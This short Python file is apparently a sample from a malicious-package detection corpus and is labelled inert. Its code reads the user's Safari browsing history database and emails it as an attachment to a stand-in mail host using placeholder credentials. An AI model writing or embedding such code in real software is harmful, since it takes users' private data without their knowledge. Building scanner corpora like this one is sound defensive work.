# pkgguard corpus 461 (browser-data), modelled on [stealer-profile]; inert, never run.
import smtplib
from email.message import EmailMessage
from pathlib import Path

history = Path.home() / "Library" / "Safari" / "History.db"
msg = EmailMessage()
msg["Subject"] = "report"
msg["From"] = "bot@mail.example"
msg["To"] = "inbox@mail.example"
msg.add_attachment(history.read_bytes(), maintype="application", subtype="octet-stream", filename="h.db")
with smtplib.SMTP_SSL("mail.example", 465) as server:
    server.login("bot@mail.example", "placeholder")
    server.send_message(msg)
